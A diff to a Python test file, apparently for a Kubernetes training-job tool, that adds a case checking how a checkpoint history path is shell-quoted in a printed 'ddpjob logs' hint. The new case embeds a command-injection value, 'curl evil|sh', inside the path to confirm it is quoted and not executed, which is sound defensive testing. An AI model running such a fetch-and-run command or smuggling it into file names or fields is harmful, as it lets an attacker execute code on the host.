@@ -118,6 +118,7 @@ def test_what_a_history_has_is_printed_where_the_pods_are_gone(
 
 
 EARLIER = "it was started by an operator that keeps one only where history.path is set"
+CLAIM = {"persistentVolumeClaim": {"claimName": "data"}}
 EMPTY = {"emptyDir": {}}
 ON_CLAIM = {"path": "/out", "volume": {"persistentVolumeClaim": {"claimName": "data"}}}
 
@@ -131,6 +132,18 @@ ON_CLAIM = {"path": "/out", "volume": {"persistentVolumeClaim": {"claimName": "d
             {"checkpoint": ON_CLAIM},
             "/out/history",
             "at /out/history; read it with: ddpjob logs team/digits --history pvc://data/history --uid uid",
+        ),
+        (
+            {
+                "template": {
+                    "spec": {
+                        "volumes": [{"name": "data", **CLAIM}],
+                        "containers": [{"name": "trainer", "volumeMounts": [{"name": "data", "mountPath": "/out"}]}],
+                    }
+                }
+            },
+            "/out/x;curl evil|sh;/history",
+            "--history 'pvc://data/x;curl evil|sh;/history' --uid uid",
         ),
         ({}, None, "No history is kept: it has neither a history.path nor a checkpoint"),
         ({"history": {"mode": "Disabled"}}, None, "No history is kept: its history.mode is Disabled"),
@@ -168,7 +181,6 @@ def test_status_says_where_a_jobs_history_is(spec: dict[str, Any], path: str | N
     assert where_history_is(as_job(job)) == said
 
 
-CLAIM = {"persistentVolumeClaim": {"claimName": "data"}}
 AT_DATA = {"name": "data", "mountPath": "/data"}
 
 
